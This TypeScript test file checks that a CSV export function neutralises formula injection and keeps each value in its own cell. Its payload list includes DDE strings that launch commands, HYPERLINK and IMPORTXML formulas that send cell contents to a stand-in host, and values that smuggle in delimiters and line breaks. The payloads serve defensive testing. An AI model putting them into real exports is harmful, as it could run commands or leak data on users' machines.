// Nothing that people have written becomes a formula or another cell.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { BYTE_ORDER_MARK, csv, csvLine } from './csv';

const read = (text: string): string[][] => parse(text, { bom: true, delimiter: ';', record_delimiter: '\r\n' });

const COMMANDS = ['cmd|\' /C calc\'!A0', 'HYPERLINK("https://x.example/?"&A1,"Klicka")', '1+1', 'SUM(A1:A9)', 'IMPORTXML(CONCAT("//x.example/",A1),"//a")',
  'DDE("cmd";"/C calc";"x")', '"=1+1"', 'å ä ö', ';=1', ',=1', '"";', '\r\n=1', '\n', '🙂', ' '];
const STARTS = ['=', '+', '-', '@', '\t', '\r', '', '"', "'", ' =', '\t=', '=+', '\n='];
const TAILS = ['', '"', ',=2', '\r\n=2,"'];
const PAYLOADS = STARTS.flatMap((start) => COMMANDS.flatMap((command) => TAILS.map((tail) => start + command + tail)));

test('at least 500 hostile cells come back as one cell each, and none begins as a formula', () => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(500);
  const rows = read(csv(['a', 'b', 'c'], PAYLOADS.map((payload) => ['före', payload, 'efter'])));
  expect(rows).toHaveLength(PAYLOADS.length + 1);
  rows.slice(1).forEach(([before, cell = '', after], at) => {
    const payload = PAYLOADS[at] ?? '';
    expect([before, after]).toEqual(['före', 'efter']);
    expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect([payload, `'${payload}`]).toContain(cell);
  });
});

test('whatever the words are, they come back', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 6 }), (cells) => {
      const [row = []] = read(csvLine(cells));
      expect(row.map((cell, at) => (cell === `'${cells[at] ?? ''}` ? cells[at] : cell))).toEqual(cells);
    }),
    { numRuns: 300 },
  );
});

test('numbers and what is missing are written plainly, after a byte order mark', () => {
  expect(csv(['Nr', 'Namn'], [[-3, null], [4, 'Åsa']])).toBe(`${BYTE_ORDER_MARK}Nr;Namn\r\n-3;\r\n4;Åsa\r\n`);
});
